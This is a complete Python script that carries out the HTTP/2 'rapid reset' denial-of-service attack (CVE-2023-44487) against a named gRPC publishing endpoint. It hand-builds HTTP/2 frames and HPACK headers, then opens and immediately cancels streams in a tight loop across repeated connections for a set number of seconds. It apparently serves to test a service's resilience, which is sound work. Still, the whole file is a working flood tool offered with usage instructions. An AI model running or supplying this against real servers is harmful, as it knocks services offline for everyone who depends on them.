"""A program that begins streams and resets them at once, as fast as it can, and prints how many.

The "rapid reset" of CVE-2023-44487, against a call for which it has no token: `reset_flood.py HOST PORT SECONDS`.
"""

import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM = 4, 1, 3
PATH = "/ringpost.v1.PublisherService/PublishStream"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


# What an HTTP/2 client says first.
BEGINNING = PREFACE + frame(SETTINGS, 0, 0)


def header(name: str, value: str) -> bytes:
    """A literal that is not indexed, as HPACK writes it without Huffman codes."""
    assert max(len(name), len(value)) < 127
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def flood(host: str, port: int, seconds: float) -> int:
    """How many streams were begun and reset."""
    pairs = {":method": "POST", ":scheme": "http", ":path": PATH, ":authority": "x"}
    pairs |= {"te": "trailers", "content-type": "application/grpc"}
    headers = b"".join(header(name, value) for name, value in pairs.items())
    cancel = struct.pack(">I", 8)
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with socket.create_connection((host, port), timeout=30) as one:
                one.sendall(BEGINNING)
                for stream in range(1, 2_001, 2):
                    one.sendall(frame(HEADERS, 4, stream, headers) + frame(RST_STREAM, 0, stream, cancel))
                    sent += 1
        except OSError:
            continue  # the node has ended the connection, which is its right
    return sent


if __name__ == "__main__":
    print(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
